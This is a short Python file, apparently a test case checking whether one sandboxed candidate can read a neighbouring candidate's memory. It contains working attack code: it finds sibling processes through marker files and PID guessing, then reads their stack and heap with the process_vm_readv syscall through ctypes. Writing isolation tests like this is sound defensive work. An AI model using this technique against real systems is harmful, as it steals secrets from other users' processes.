"""Read the stack and heap of a candidate that runs beside this one."""

import contextlib
import ctypes
import glob
import os
import platform
import time


def bystander(target, secret):
    keep = ctypes.create_string_buffer(secret.encode(), 100)
    with open(target["mark"], "w") as file:
        file.write(f"{os.getpid()} {ctypes.addressof(keep)}")
    time.sleep(0.6)
    return "unharmed"


def attack(target):
    return [text for pid, address in neighbours(target) if (text := peek(pid, address))]


def peek(pid, address):
    number = {"x86_64": 310, "aarch64": 270}[platform.machine()]
    mine = ctypes.create_string_buffer(30)
    here, there = (ctypes.c_ulong * 2)(ctypes.addressof(mine), 30), (ctypes.c_ulong * 2)(address, 30)
    if ctypes.CDLL(None).syscall(number, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        return mine.value.decode(errors="replace")
    return None


def neighbours(target):
    """Processes and addresses: those told in a scratch folder that can be read, and the one before, at its own."""
    for path in glob.glob(f"../*/{target['mark']}"):
        with contextlib.suppress(OSError), open(path) as file:
            pid, address = file.read().split()
            yield int(pid), int(address)
    for pid in range(os.getppid() + 1, os.getpid()) if os.getppid() < 10 else ():
        yield pid, id(ctypes) & ~0xFFF  # forks of one server: the same things lie at the same addresses
